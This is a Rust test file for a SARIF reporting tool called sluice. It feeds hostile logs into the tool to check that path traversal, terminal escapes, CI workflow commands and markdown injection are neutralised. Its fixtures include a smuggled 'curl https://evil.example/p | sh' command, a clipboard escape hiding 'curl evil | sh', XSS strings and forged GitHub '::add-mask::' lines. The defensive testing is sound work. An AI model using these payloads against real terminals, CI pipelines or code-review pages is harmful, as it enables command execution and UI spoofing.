//! Hostile SARIF logs and repositories against every human and CI output: a log must not make
//! sluice read files outside the scanned root, nor write control sequences, CI workflow commands
//! or markup that breaks out of where it is shown (issue 15, items 3, 4, 5 and JUnit's XML).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;

use common::*;
use serde_json::{json, Value};

/// Every byte sequence a hostile string below carries that must never reach an output raw.
const RAW: &[&str] = &[
    "\x1b",     // ESC: CSI (ESC[2J clears the screen), OSC 52 (clipboard), OSC 8 (links)
    "\x07",     // BEL, which ends OSC sequences
    "\u{9b}",   // C1 CSI
    "\u{9d}",   // C1 OSC
    "\u{202e}", // right-to-left override
    "\u{2066}", // left-to-right isolate
    "\r",
];

/// A string with every kind of control injection: terminal sequences, a new line that starts a
/// GitHub workflow command, bidi overrides.
fn hostile(tag: &str) -> String {
    format!(
        "{tag}\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\u{9b}31m\u{9d}0;t\u{7}\u{202e}txt.exe\u{2066}\r\n::add-mask::{tag}\n::stop-commands::tok{tag}\n  ::error::forged {tag}\n##[add-mask]{tag}"
    )
}

/// A third-party log with one result per `(rule, message, uri, line)`.
fn tool_log(results: &[(&str, &str, &str, u32)]) -> Value {
    let results: Vec<Value> = results
        .iter()
        .map(|(rule, message, uri, line)| {
            json!({
                "ruleId": rule,
                "level": "error",
                "message": { "text": message },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": uri },
                    "region": { "startLine": line },
                }}],
            })
        })
        .collect();
    json!({ "version": "2.1.0", "runs": [{ "tool": { "driver": { "name": "hostiletool" } }, "results": results }] })
}

fn report(format: &str, log: &Value, root: &Path) -> String {
    let out = sluice()
        .args(["report", "--format", format, "--root"])
        .arg(root)
        .write_stdin(serde_json::to_vec(log).unwrap())
        .assert()
        .success();
    String::from_utf8(out.get_output().stdout.clone()).unwrap()
}

fn merge(log: &Value, root: &Path) -> Value {
    let path = root.join("tool.sarif");
    std::fs::write(&path, serde_json::to_vec(log).unwrap()).unwrap();
    let out = sluice().args(["merge", "--root"]).arg(root).arg(&path).assert().success();
    std::fs::remove_file(&path).unwrap();
    serde_json::from_slice(&out.get_output().stdout).unwrap()
}

/// No control byte, and no line that a CI runner would take for a command.
fn assert_inert(what: &str, out: &str) {
    for raw in RAW {
        assert!(!out.contains(raw), "{what}: raw {raw:?} in the output:\n{out:?}");
    }
    for line in out.lines() {
        let trimmed = line.trim_start();
        assert!(!trimmed.starts_with("::"), "{what}: a line starts a workflow command: {line:?}\n{out}");
        assert!(!line.contains("##["), "{what}: a legacy workflow command: {line:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// item 3: a log cannot make sluice print files outside the root

#[test]
fn text_report_never_reads_a_file_outside_the_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(root.join("sub")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("credentials"), "OUTSIDE-LINE-ONE\n").unwrap();
    std::fs::write(outside.join("other"), "OUTSIDE-LINE-TWO\n").unwrap();
    std::fs::write(root.join("app.py"), "x = eval(input())\n").unwrap();
    // A committed symlink to a file, and one to a directory, both leading out of the root.
    std::os::unix::fs::symlink(outside.join("credentials"), root.join("link.py")).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("sub/dir")).unwrap();
    let abs = outside.join("other").display().to_string();
    let file_uri = format!("file://{abs}");
    let log = tool_log(&[
        ("R1", "relative", "../outside/credentials", 1),
        ("R2", "parent", "sub/../../outside/other", 1),
        ("R3", "file uri", &file_uri, 1),
        ("R4", "absolute", &abs, 1),
        ("R5", "symlinked file", "link.py", 1),
        ("R6", "symlinked dir", "sub/dir/other", 1),
        ("R7", "inside", "app.py", 1),
    ]);
    for (how, log) in [("raw log", log.clone()), ("merged log", merge(&log, &root))] {
        let text = report("text", &log, &root);
        assert!(!text.contains("OUTSIDE-LINE"), "{how}: a file outside the root was printed:\n{text}");
        // The root's own files are still shown: the guard is not "never read".
        assert!(text.contains("x = eval(input())"), "{how}: {text}");
    }
}

// ---------------------------------------------------------------------------------------------
// item 4: terminal and CI-log control injection

/// A repository whose file name and content carry control sequences, and a log about it.
fn hostile_repo() -> (tempfile::TempDir, String, Value) {
    let dir = tempfile::tempdir().unwrap();
    let name = format!("{}.py", hostile("NAME").replace(['/', '\\'], "_"));
    std::fs::write(dir.path().join(&name), format!("{}\n", hostile("LINE").replace(['\r', '\n'], " "))).unwrap();
    let log = tool_log(&[(&hostile("RULE"), &hostile("MESSAGE"), &name, 1)]);
    (dir, name, log)
}

#[test]
fn text_report_escapes_control_sequences_from_file_names_lines_and_messages() {
    let (dir, _, log) = hostile_repo();
    for (how, log) in [("raw log", log.clone()), ("merged log", merge(&log, dir.path()))] {
        let text = report("text", &log, dir.path());
        assert_inert(how, &text);
        // Shown, escaped: the reader sees what is there.
        assert!(text.contains(r"\x1b[2J"), "{how}: {text}");
        assert!(text.contains(r"\u{202e}"), "{how}: {text}");
        assert!(text.contains("LINE"), "{how}: the source line is shown: {text}");
    }
}

#[test]
fn github_annotations_cannot_start_a_workflow_command() {
    let (dir, _, log) = hostile_repo();
    let log = merge(&log, dir.path());
    let out = report("github", &log, dir.path());
    assert_inert("github", &out.replace("::error ", "").replace("::warning ", "").replace("::notice ", ""));
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 1, "one annotation, one line: {out}");
    assert!(lines[0].starts_with("::error file="), "{out}");
    // The properties end at the first `::`; nothing in them can close them early.
    let (props, _) = lines[0][2..].split_once("::").unwrap();
    assert!(props.contains("title=") && !props.contains('\n'), "{props}");
}

#[test]
fn gate_output_escapes_what_the_log_says() {
    let dir = tempfile::tempdir().unwrap();
    let log = json!({ "version": "2.1.0", "runs": [
        {
            "tool": { "driver": { "name": "sluice-secrets", "rules": [] } },
            "automationDetails": { "id": "sluice/secrets/" },
            "results": [{
                "ruleId": hostile("RULE"),
                "level": "error",
                "message": { "text": hostile("MESSAGE") },
                "properties": { "sluice/stage": "secrets", "security-severity": "9.5" },
                "partialFingerprints": { "sluice/v1": hostile("FP") },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": hostile("PATH").replace('/', "_") },
                    "region": { "startLine": 3 },
                }}],
            }],
        },
        {
            "tool": { "driver": { "name": "sluice-sast" } },
            "automationDetails": { "id": "sluice/sast/" },
            "invocations": [{
                "executionSuccessful": false,
                "toolExecutionNotifications": [{ "level": "error", "message": { "text": hostile("FAILURE") } }],
            }],
            "results": [],
        },
    ]});
    let input = dir.path().join("hostile.sarif");
    std::fs::write(&input, serde_json::to_vec(&log).unwrap()).unwrap();
    let out = sluice()
        .arg("gate")
        .arg(&input)
        .arg("--root")
        .arg(dir.path())
        .args(["--profile", "velocity"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(stderr.contains("RULE") && stderr.contains("FAILURE"), "the gate lists the finding: {stderr}");
    assert_inert("gate stderr", &stderr);
}

#[test]
fn triage_list_and_show_escape_the_decisions_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".sluice")).unwrap();
    let fp = format!("{}:1", "ab".repeat(16));
    let toml_str = |s: &str| Value::String(s.to_owned()).to_string(); // JSON strings are TOML basic strings
    let decisions = format!(
        "[[decision]]\nfingerprint = \"{fp}\"\nstatus = \"false_positive\"\nreason = {}\nwho = {}\nwhen = \"2026-11-01\"\n",
        toml_str(&hostile("REASON")),
        toml_str(&hostile("WHO")),
    );
    std::fs::write(dir.path().join(".sluice/triage.toml"), decisions).unwrap();
    let list = sluice().args(["triage", "list", "--root"]).arg(dir.path()).assert().success();
    let list = String::from_utf8(list.get_output().stdout.clone()).unwrap();
    assert!(list.contains("REASON"), "{list}");
    assert_inert("triage list", &list);
    assert_eq!(list.lines().count(), 1, "one decision, one line: {list}");
    let show = sluice().args(["triage", "show", &fp, "--root"]).arg(dir.path()).assert().success();
    let show = String::from_utf8(show.get_output().stdout.clone()).unwrap();
    assert!(show.contains("REASON"), "{show}");
    assert_inert("triage show", &show);
}

// ---------------------------------------------------------------------------------------------
// item 5: merge request comment injection

#[test]
fn markdown_comment_cannot_break_out_of_its_table_or_hide_findings() {
    let dir = tempfile::tempdir().unwrap();
    let payload = "</details><img src=x onerror=alert(1)> @team [click](javascript:alert(1)) ` </code> <!-- | x |";
    let log = json!({ "version": "2.1.0", "runs": [{
        "tool": { "driver": { "name": "hostiletool", "rules": [
            {
                "id": "style\n\n<!--",
                "helpUri": "javascript:alert(1)",
                "shortDescription": { "text": payload },
                "help": { "text": payload, "markdown": format!("{payload}\n~~~\n") },
            },
        ] } },
        "results": [
            {
                "ruleId": "style\n\n<!--",
                "level": "note",
                "message": { "text": format!("{payload}\n\n| forged | row |") },
                "partialFingerprints": { "sluice/v1": "x; curl https://evil.example/p | sh #" },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": "a`b</details>@team.py" },
                    "region": { "startLine": 1 },
                }}],
            },
            {
                "ruleId": "leaked-token",
                "level": "error",
                "message": { "text": "a token is committed" },
                "properties": { "security-severity": "9.5" },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": "config.yml" },
                    "region": { "startLine": 2 },
                }}],
            },
        ],
    }]});
    let md = report("markdown", &log, dir.path());
    // The table has exactly its two rows, the leaked token's among them.
    let rows: Vec<&str> =
        md.lines().filter(|l| l.starts_with('|') && !l.starts_with("| Severity") && !l.starts_with("|---")).collect();
    assert_eq!(rows.len(), 2, "{md}");
    assert!(rows.iter().any(|r| r.contains("leaked-token")), "{md}");
    for row in &rows {
        // Five cell separators, none from the data.
        assert_eq!(row.matches('|').count(), 5, "{row}");
    }
    // (`javascript:` may stay as text, its brackets as entities; it must not be a link target.)
    for raw in ["<!--", "<img", "@team", "](javascript:", "[click]", "~~~", "</code> <", "x; curl"] {
        assert!(!md.contains(raw), "raw {raw:?} in the comment:\n{md}");
    }
    assert_eq!(md.matches("<details>").count(), md.matches("</details>").count(), "{md}");
    // Backticks in the data cannot open or close a code span.
    for line in md.lines().filter(|l| l.starts_with('|')) {
        assert_eq!(line.matches('`').count() % 2, 0, "{line}");
    }
    // A fingerprint that is not sluice's shape is not offered as a command to paste.
    assert!(!md.contains("sluice triage mark"), "{md}");
    let text = report("text", &log, dir.path());
    assert!(!text.contains("curl"), "{text}");
    assert!(!text.contains("sluice triage mark"), "{text}");
}

#[test]
fn gitlab_sast_description_is_inert_markdown() {
    let dir = tempfile::tempdir().unwrap();
    let log = tool_log(&[("R1", "<img src=x onerror=alert(1)> @team [x](javascript:alert(1))", "a.py", 1)]);
    let doc = parse(report("gitlab-sast", &log, dir.path()).as_bytes());
    let description = doc["vulnerabilities"][0]["description"].as_str().unwrap();
    for raw in ["<img", "@team", "](javascript:"] {
        assert!(!description.contains(raw), "raw {raw:?}: {description}");
    }
}

// ---------------------------------------------------------------------------------------------
// item 13: JUnit is well-formed XML whatever the log holds

#[test]
fn junit_is_well_formed_with_characters_xml_forbids() {
    let dir = tempfile::tempdir().unwrap();
    let bad = "a\u{FFFE}b\u{FFFF}c\u{1}d\u{b}e\u{1b}[2J\u{7f}f";
    let log = json!({ "version": "2.1.0", "runs": [{
        "tool": { "driver": { "name": format!("tool{bad}"), "rules": [
            { "id": format!("R{bad}"), "help": { "text": format!("help{bad}") } },
        ] } },
        "invocations": [{
            "executionSuccessful": false,
            "toolExecutionNotifications": [{ "level": "error", "message": { "text": format!("failed{bad}") } }],
        }],
        "results": [{
            "ruleId": format!("R{bad}"),
            "level": "error",
            "message": { "text": format!("message{bad}") },
            "locations": [{ "physicalLocation": {
                "artifactLocation": { "uri": format!("file{bad}.py") },
                "region": { "startLine": 1 },
            }}],
        }],
    }]});
    let xml = report("junit", &log, dir.path());
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("not well-formed: {e}\n{xml:?}"));
    assert_eq!(doc.descendants().filter(|n| n.has_tag_name("failure")).count(), 1, "{xml}");
    for c in ['\u{FFFE}', '\u{FFFF}', '\u{1}', '\u{b}', '\u{1b}'] {
        assert!(!xml.contains(c), "{c:?} in {xml:?}");
    }
    // Python's parser (expat) as a second, independent judge, when Python is here.
    let py = std::process::Command::new("python3")
        .args(["-c", "import sys, xml.etree.ElementTree as E; E.fromstring(sys.stdin.buffer.read())"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn();
    if let Ok(mut child) = py {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(xml.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "expat: {}\n{xml:?}", String::from_utf8_lossy(&out.stderr));
    }
}

// ---------------------------------------------------------------------------------------------
// item 3, the fingerprint side: hashing a file outside the root would reveal it line by line

#[test]
fn merge_never_hashes_a_file_outside_the_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(outside.join("secret"), root.join("link.txt")).unwrap();
    std::fs::write(root.join("inside.txt"), "one\n").unwrap();
    let file_uri = format!("file://{}", outside.join("secret").display());
    let log = tool_log(&[
        ("R1", "m", &file_uri, 1),
        ("R2", "m", "../outside/secret", 1),
        ("R3", "m", "link.txt", 1),
        ("R4", "m", "inside.txt", 1),
    ]);
    let fingerprints = |content: &str| -> Vec<String> {
        std::fs::write(outside.join("secret"), content).unwrap();
        std::fs::write(root.join("inside.txt"), content).unwrap();
        let merged = merge(&log, &root);
        let mut fps: Vec<(String, String)> =
            results(&merged).iter().map(|r| (r["ruleId"].as_str().unwrap().to_owned(), fingerprint(r))).collect();
        fps.sort();
        fps.into_iter().map(|(_, fp)| fp).collect()
    };
    let (a, b) = (fingerprints("password=hunter2\n"), fingerprints("password=correct-horse\n"));
    assert_eq!(a[..3], b[..3], "a fingerprint depends on a file outside the root: {a:?} {b:?}");
    assert_ne!(a[3], b[3], "the file inside the root is still read");
}

#[test]
fn errors_quoting_repository_files_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".sluice")).unwrap();
    std::fs::write(
        dir.path().join(".sluice/triage.toml"),
        format!("[[decision]]\n{} = 1\n", Value::String(hostile("KEY"))),
    )
    .unwrap();
    let out = sluice().args(["triage", "list", "--root"]).arg(dir.path()).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!out.status.success() && stderr.contains("KEY"), "the error quotes the file: {stderr}");
    assert_inert("error", &stderr);
}
